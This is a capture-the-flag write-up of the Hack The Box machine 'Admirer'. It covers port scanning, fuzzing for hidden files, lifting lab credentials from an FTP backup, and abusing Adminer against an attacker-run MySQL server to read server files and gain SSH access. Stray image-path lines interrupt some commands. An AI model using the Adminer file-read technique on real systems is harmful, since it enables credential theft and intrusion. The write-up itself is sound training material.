HackTheBox WriteUp Admirer

Hack The Box Writeup: Admirer

For me the first box again after being away from Hack The Box for a while. Admirer focuses on Adminer, the predecessors of the immensely popular phpMyAdmin. The version in question has a vulnerability that I used for the user-flag. Root was achieved by misusing an include in a python backup script.

Hack The Box Admirer

[0x1] Reconnaissance & Enumeration

Step 1 is in this case also the port scan through Nmap.Here are the parameters for standard scripts, version detection, and export to a file.

nmap -sC -sV -p- -T5 -oA admirer-allports admirer
Starting Nmap 7.80 ( https://nmap.org ) at 2020-07-05 13:06 BST
Warning: giving up on port because retransmission cap hit (2).
Nmap scan report for admirer (
Host is up (0.014s latency).
Not shown: 65525 closed ports
21/tcp open ftp vsftpd 3.0.3
22/tcp open ssh OpenSSH 7.4p1 Debian 10+deb9u7 (protocol 2.0)
| ssh-hostkey:
| 2048 4a:71:e9:21:63:69:9d:cb:dd:84:02:1a:23:97:e1:b9 (RSA)
| 256 c5:95:b6:21:4d:46:a4:25:55:7a:87:3e:19:a8:e7:02 (ECDSA)
|_ 256d0:2d:dd:d0:5c:42:f8:7b:31:5a:be:57:c4:a9:a7:56 (ED25519)
80/tcp open http Apache httpd 2.4.25 ((Debian))
| http-robots.txt: 1 disallowed entry
|_http-server-header: Apache/2.4.25 (Debian)
|_http-title: Admirer
1572/tcp filtered chip-lm
2514/tcp filtered facsys-ntp
11837/tcp filtered unknown
24771/tcp filtered unknown
32876/tcp filtered unknown
37243/tcp filtered unknown
58667/tcp filtered unknown
Service Info: OSs: Unix, Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 419.39 seconds

From the scan, a number of ports emerge. After some checks port 80, for now, is the most interesting. The website does not show much relevant information at first glance.

Hack The Box Admirer website

After some searching on the website, I launched Dirbuster. After some boxes where you have to search for something you don’t expect right away I also used Dirbuster to search for text files and not just PHP files. In this case, Dirbuster finds two text files.


File found: /admin-dir/contacts.txt - 200
File found: /admin-dir/credentials.txt - 200
DirBuster Stopped

[0x2] Initial Foothold

Through curl, Ivisit the file and read the output. According to the file, p.wise@admirer.htb is one of the admins.

curl http://admirer/admin-dir/contacts.txt
# admins #
# Penny
Email: p.wise@admirer.htb

# developers #
# Rajesh
Email: r.nayyar@admirer.htb

# Amy
Email: a.bialik@admirer.htb# Leonard
Email: l.galecki@admirer.htb

# designers #
# Howard
Email: h.helberg@admirer.htb

# Bernadette
Email: b.rauch@admirer.htb

The second file provides login credentials for mail, ftp and WordPress.

curl http://admirer/admin-dir/credentials.txt
[Internal mail account]

[FTP account]

[Wordpress account]

With the FTP-credentials, I will log in to Admirer. In the port scan, FTP was also visible as an open service. There is not much to be found beside a MySQL dump file and a website backup.

ftp admirer
Connected to admirer.
220 (vsFTPd 3.0.3)

Name (admirer:user): ftpuser
331 Please specify the password.

230 Login successful.
Remote system type is UNIX.
Using binary mode to transfer files.
ftp> ls200 PORT command successful. Consider using PASV.
150 Here comes the directory listing.

-rw-r--r-- 1 0 0 3405 Dec 02 2019 dump.sql
-rw-r--r-- 1 0 0 5270987 Dec 03 2019 html.tar.gz
226 Directory send OK.

I download both files for further research on my Parrot machine. While looking around in the content of the website backup, I find a robots.txt file in which a clear disallow to a secret folder of Waldo can be found, namely w4ld0s_s3cr3t_d1r.

sudo cat robots.txt
User-agent: *

# This folder contains personal stuff, so no one (not even robots!) should see it - waldo
Disallow: /w4ld0s_s3cr3t_d1r

In the website backup I can find and view this folder from robots.txt. However, the info brings nothing new.

cat w4ld0s_s3cr3t_d1r/contacts.txt
# admins #
# Penny
Email: p.wise@admirer.htb

# developers #
# Rajesh
Email: r.nayyar@admirer.htb

# Amy
Email: a.bialik@admirer.htb

# Leonard
Email: l.galecki@admirer.htb

# designers ## Howard
Email: h.helberg@admirer.htb

# Bernadette
Email: b.rauch@admirer.htb

The file contains credentials for a bank account. Maybe they might come in handy in the future, but for now, I don’t expect much of them.

cat w4ld0s_s3cr3t_d1r/credentials.txt
[Bank Account]

[Internal mail account]

[FTP account][Wordpress account]

Thecontents of this db_admin.php looks more promissing. Let’s write those down, they might come in handy.

cat db_admin.php
  $servername = "localhost";
  $username = "waldo";
  $password ="Wh3r3_1s_w4ld0?";

  // Create connection
  $conn = new mysqli($servername, $username, $password);

  // Check connection
  if ($conn->connect_error) {
      die("Connection failed: " . $conn->connect_error);echo "Connected successfully";

  // TODO: Finish implementing this or find a better open source alternative

After searching a bit further in the backup I also come across a folder called utility-scripts. Because it is a backup of the website it might also be on the live website. The path can’t be used directly, butexperience teaches us that sometimes you have tosearch for something you think you can’t reach. In this case, I search for files directly in utility scripts using Wfuzz and big.txt as a wordlist.

Three hits that can be reached directly on the full url (http 200).

wfuzz -c -w /usr/share/wordlists/dirb/big.txt -z list,php --hc 403,404 -t 100 -u http://admirer/utility-scripts/FUZZ.FUZ2Z

Warning: Pycurl is not compiled against Openssl. Wfuzz might not work correctly when fuzzing SSL sites. Check Wfuzz's documentation for more information.

* Wfuzz 2.4.5 - The Web Fuzzer *

Target: http://admirer/utility-scripts/FUZZ.FUZ2Z
Total requests: 20469

ID Response Lines Word Chars Payload

000001873: 200 51 L 235 W 4157 Ch "adminer - php"
000009618: 200 964 L 4976 W 83990 Ch "info - php"
000013866: 200 0 L 8 W 32 Ch "phptest - php"

Total time: 38.03754
Processed Requests: 20469
Filtered Requests: 20466
Requests/sec.: 538.1261

[0x3] Path toUser flag

The page adminer.php provides an Adminer portal with a login for a database. Considering the credentials I found in the connection string I try to log in with Waldo’s account. Unfortunately this doesn’t work. After searching on Google I come across a blog post about a vulnerability in Adminer by logging into the login portal on a local (proprietary) MySQL server and importing alocal file from the server. For example an /etc/passwd.

So I installed my own MySQL (MariaDB) server on my machine and created an empty database here (localAdmirer) with a table temp.

MariaDB [(none)]> CREATE DATABASE LocalAdmirer;
MariaDB [(none)]> CREATE USER 'admin'@'%' IDENTIFIED BY 'admirer4dm1n';
MariaDB [(none)]> GRANT ALL PRIVILEGES ON * . * TO 'admin'@'%';
MariaDB [(none)]> USE LocalAdmirer
MariaDB [(LocalAdmirer)]> CREATE TABLE temp(data VARCHAR(255));

I am connected from /utility-scipts/adminer.php on the box to my own machine and select the created table in the database: temp.

Hack The Box Admirer login Adminer
Hack The Box Admirer LocalAdminer

The query I perform causes me to import the local file index.php into my database: temp. The ‘../’ is needed to go back one level from the utility scripts directory to the webroot.

Hack The Box Admirer sql query

After the successful import, I see a new connection string with a different password for Waldo.

Hack The Box Admirer import

One of the open ports from the scan is for SSH. Great place to enter Waldo’s account and the new password: &<h5b~yK3F#{PaPB&dA}{H>

The account with the corresponding password is usable and I am logged in as Waldo.

ssh waldo@admirer
[sudo] password for user:
The authenticity of host 'admirer (' can't be established.

ECDSA key fingerprint isSHA256:NSIaytJ0GOq4AaLY0wPFdPsnuw/wBUt2SvaCdiFM8xI.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes

Warning: Permanently added 'admirer,' (ECDSA) to the list of known hosts.
waldo@admirer's password:

Linux admirer 4.9.0-12-amd64 x86_64 GNU/Linux
The programs included with the Devuan GNU/Linux system are free software; the exact distribution terms for each program are described in the
individual files in /usr/share/doc/*/copyright.
Devuan GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent
permitted by applicable law.
You have new mail.
Last login: Wed Apr 29 10:56:59 2020 from

Just a quick check to see if the user flag is present in Waldo’s account.waldo@admirer:~$ ls -sla
total 28
4 drwxr-x--- 3 waldo waldo 4096 Apr 29 11:18 .
4 drwxr-xr-x 9 root root 4096 Dec 2 2019 ..
0 lrwxrwxrwx 1 waldo waldo 9 Nov 29 2019 .bash_history -> /dev/null
4 -rw-r--r-- 1 waldo waldo 220 Nov 29 2019 .bash_logout
4 -rw-r--r-- 1 waldo waldo 3526 Nov 29 2019 .bashrc
0 lrwxrwxrwx 1 waldo waldo 9 Dec 2 2019 .lesshst -> /dev/null
0 lrwxrwxrwx 1 waldo waldo 9 Nov 29 2019 .mysql_history -> /dev/null
4 drwxr-xr-x 2 waldo waldo 4096 Apr 29 10:57 .nano
4 -rw-r--r-- 1 waldo waldo 675 Nov 29 2019 .profile
4 -rw-r----- 1 root waldo 33 Jul 12 08:14 user.txt

Yep, I just got the User flag, Now lets go and enumerate this box some more to find the root-flag.cat user.txt

[0x4] Path to Root flag

While looking around on the machine I come across the previously found script admin_tasks.sh again. On the website not all functions were available, but if I start the script now, all functions will do it. I try to see if option 6 works and I can write down the shadow file. Maybe you can get the root password out of this.

[[[ System Administration Menu ]]]
1) View system uptime
2) View logged in users
3) View crontab
4) Backup passwd file
5) Backup shadow file
6) Backup web data
7) Backup DB
8) Quit

Unfortunately, the script might work but I’m not allowed to read the output.

cat /var/www/shadow.bak
Sorry, user waldo is not allowed to execute '/bin/cat /var/www/shadow.bak' as root on admirer.htb.Making changes in the script is also not allowed.

nano admin_tasks.sh
Sorry, user waldo is not allowed to execute '/bin/nano admin_tasks.sh' as root on admirer.htb.

